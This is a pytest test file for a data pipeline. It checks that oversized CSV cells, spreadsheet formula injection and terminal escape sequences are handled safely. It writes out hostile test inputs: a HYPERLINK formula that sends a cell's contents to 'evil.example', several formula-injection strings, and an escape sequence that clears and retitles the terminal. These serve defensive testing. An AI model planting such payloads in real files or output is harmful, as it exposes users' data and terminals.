"""Fault suite, issue 24 item 5: sheets and manifests are data.

Before: a 1 MB CSV cell aborted the whole build with ``_csv.Error: field
larger than field limit``; label cells beginning ``=``, ``+``, ``-``, ``@``
went raw into exported CSV (spreadsheet formula injection); an xlsx formula
cell without a saved value read as blank and a blank emotion was not
flagged; an ESC sequence in a label reached the terminal raw in training's
warnings. Now a long cell fails its row alone, exported CSV text cells that
begin like a formula start with ``'`` (OWASP), formula and blank label
cells are reported per row, and every message escapes control codes.
"""
from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import finish_synthetic_store

from mepipe.cli.main import cli
from mepipe.featurestore.export import export_tables, spreadsheet_safe
from mepipe.featurestore.schema import SAMPLE_COLUMNS
from mepipe.featurestore.writer import StoreWriter
from mepipe.pipeline.build import BuildReport
from mepipe.pipeline.datasets.cells import MAX_CELL_CHARS
from mepipe.pipeline.datasets.manifest import load_manifest
from mepipe.pipeline.datasets.samm import load_demo
from mepipe.pipeline.demo import SHEET_NAME

ESC = "\x1b[2J\x1b]0;pwned\x07"
"""Clears the screen and retitles the terminal when printed raw."""

TOY_NETWORK = Path(__file__).resolve().parents[1] / "toy_network.py"


def _manifest(root: Path, rows: list[list[str]]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    with open(root / "manifest.csv", "w", newline="") as f:
        csv.writer(f).writerows([["path", "subject", "label", "fps"], *rows])
    return root


def test_a_long_cell_fails_its_row_and_only_its_row(tmp_path):
    long = "x" * 1_000_000  # past csv's 131072-character field limit
    root = _manifest(tmp_path / "m", [["a", "1", "Happiness", "200"], ["b", "1", long, "200"],
                                      ["c", "1", "Anger", "200"], ["d", "1", "y" * (MAX_CELL_CHARS + 1), "200"],
                                      ["e", "1", "z" * MAX_CELL_CHARS, "200"]])
    result = load_manifest(root)
    assert [s.sample for s in result.samples] == ["a", "c", "e"]
    assert [(q.row, q.kind) for q in result.rejected] == [(3, "unreadable_row"), (5, "unreadable_row")]
    assert str(result.rejected[0]) == ("row 3: unreadable_row: the emotion cell holds 1000000 characters, more than "
                                       f"the {MAX_CELL_CHARS} a cell may; row not built (manifest.csv row 3)")


def test_a_long_cell_in_a_column_no_adapter_reads_is_harmless(tmp_path):
    root = tmp_path / "m"
    root.mkdir()
    (root / "manifest.csv").write_text(f"path,subject,label,notes\na,1,Happiness,{'n' * 1_000_000}\n")
    result = load_manifest(root)
    assert [s.sample for s in result.samples] == ["a"] and not result.rejected


@pytest.mark.slow
def test_a_long_cell_is_one_failed_row_of_the_build(small_demo, tmp_path):
    clip = next(p for p in sorted(small_demo.glob("*/*")) if p.is_dir())
    root = _manifest(tmp_path / "m", [[str(clip), "1", "Happiness", "200"], [str(clip), "2", "x" * 200_000, "200"]])
    result = CliRunner().invoke(cli, ["build", "--dataset", "manifest", "--root", str(root), "--store",
                                      str(tmp_path / "s.zarr"), "--allow-outside-root", "--dry-run",
                                      "--no-estimate"])  # the plan is what is checked; measuring stages is not
    assert result.exit_code == 0, result.output
    assert "fails   row 3  dataset: the emotion cell holds 200000 characters" in result.output
    assert "landmarks: 1 to run" in result.output


def test_csv_text_that_begins_like_a_formula_is_neutralised():
    table = pd.DataFrame({"emotion": ["=1+2", "+A1", "-A1", "@SUM(1)", "\tx", "\rx", "ok", "a=b", None],
                          "onset": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0]})
    safe = spreadsheet_safe(table)
    assert safe["emotion"].tolist()[:-1] == ["'=1+2", "'+A1", "'-A1", "'@SUM(1)", "'\tx", "'\rx", "ok", "a=b"]
    assert pd.isna(safe["emotion"].iloc[-1])
    assert safe["onset"].tolist() == table["onset"].tolist() and table["emotion"][0] == "=1+2"  # input untouched


def _store_with_labels(path: Path, emotions: dict[str, str], subjects: dict[str, str]) -> Path:
    """A complete synthetic store of dataset samm whose clips have these emotions and subjects, and an intensity."""
    rng = np.random.default_rng(0)
    w = StoreWriter(path)
    w.create()
    rows = []
    for sample, emotion in emotions.items():
        frames = np.arange(10, 14)
        w.write_feature(sample, "landmarks", rng.normal(100, 30, (4, 68, 2)), f"key-{sample}", frame_numbers=frames)
        w.write_feature(sample, "frame", frames, f"key-{sample}")
        w.write_feature(sample, "intensity", rng.uniform(0, 1, 4), f"key-{sample}", frame_numbers=frames)
        rows.append(dict.fromkeys(SAMPLE_COLUMNS, "") | {
            "sample": sample, "dataset": "samm", "subject": subjects[sample], "clip": sample, "fps": 200.0,
            "n_frames": 4, "onset": 10, "apex": 11, "offset": 13, "status": "ok", "emotion": emotion,
            "onset_est": None, "apex_est": None, "offset_est": None, "apex_ncc": None})
    w.write_samples(pd.DataFrame(rows))
    finish_synthetic_store(w, "samm")
    return path


def test_exported_csv_cells_never_start_a_formula(tmp_path):
    emotions = {"c1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "c2": "+1+2", "c3": "Happiness"}
    store = _store_with_labels(tmp_path / "s.zarr", emotions, dict.fromkeys(emotions, "@SUM(1)"))
    export_tables(store, tmp_path / "t.csv", ["landmarks"])
    for table in ("t.csv", "t-clips.csv"):
        cells = [c for row in csv.reader(open(tmp_path / table, newline="")) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    clips = pd.read_csv(tmp_path / "t-clips.csv")
    assert clips["emotion"].tolist() == ["'" + emotions["c1"], "'+1+2", "Happiness"]
    assert set(clips["subject"]) == {"'@SUM(1)"}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_formula_and_blank_label_cells_are_reported_per_row(demo_copy):
    book = openpyxl.load_workbook(demo_copy / SHEET_NAME)
    rows = {row[1].value: row for row in book.active.iter_rows() if isinstance(row[1].value, str)}
    clips = sorted(c for c in rows if c[:1].isdigit())
    formula, blank, onset = clips[0], clips[1], clips[2]
    rows[formula][9].value = '="Sur"&"prise"'  # openpyxl saves no value for it: it reads as blank
    rows[blank][9].value = None
    rows[onset][3].value = "=D9+1"
    book.save(demo_copy / SHEET_NAME)
    result = load_demo(demo_copy)
    kinds = {s.sample: set(s.flags) for s in result.samples}
    assert {"emotion_formula"} <= kinds[formula] and "emotion_blank" not in kinds[formula]
    assert {"emotion_blank"} <= kinds[blank] and not {k for k in kinds[blank] if k.endswith("_formula")}
    assert {"onset_formula", "onset_unparsable"} <= kinds[onset]
    assert not [k for s, k in kinds.items() if s not in (formula, blank, onset) and ("formula" in str(k)
                                                                                      or "emotion_blank" in k)]
    quirk = next(q for q in result.quirks if q.kind == "emotion_formula")
    assert quirk.row == rows[formula][9].row and "the emotion cell is the formula '=\"Sur\"&\"prise\"'" in quirk.message


def test_the_build_summary_escapes_control_codes():
    report = BuildReport(store="s.zarr", dataset="samm", started="", seconds=1.0, n_samples=1, n_ok=1, tasks_run={},
                         tasks_cached={}, stage_seconds={}, failures=[{"error": f"c{ESC}: dataset: missing"}],
                         quirks=[f"c{ESC}: emotion_blank: no emotion"], exit_code=0)
    summary = report.summary()
    assert "\x1b" not in summary and "\x07" not in summary and "\\x1b[2J" in summary


@pytest.mark.slow
def test_training_warnings_and_plan_escape_control_codes(tmp_path):
    emotions = {"a1": f"Happiness{ESC}", "a2": "Surprise", "a3": "Anger", "b1": "Happiness", "b2": "Surprise",
                "b3": "Anger"}
    subjects = {s: ("001" if s[0] == "a" else f"002{ESC}") for s in emotions}
    store = _store_with_labels(tmp_path / "s.zarr", emotions, subjects)
    out = subprocess.run([sys.executable, "-m", "mepipe.cli", "train", "--model", "toy-curve", "--plugin",
                          str(TOY_NETWORK), "--store", str(store), "--labels", "samm-3", "--dry-run"],
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout + out.stderr and "\x07" not in out.stdout + out.stderr
    assert "samm Happiness\\x1b[2J\\x1b]0;pwned\\x07: 1" in out.stderr  # the warning naming the unmapped label
    assert "samm/002\\x1b[2J" in out.stdout  # the fold of the subject whose id carries the codes
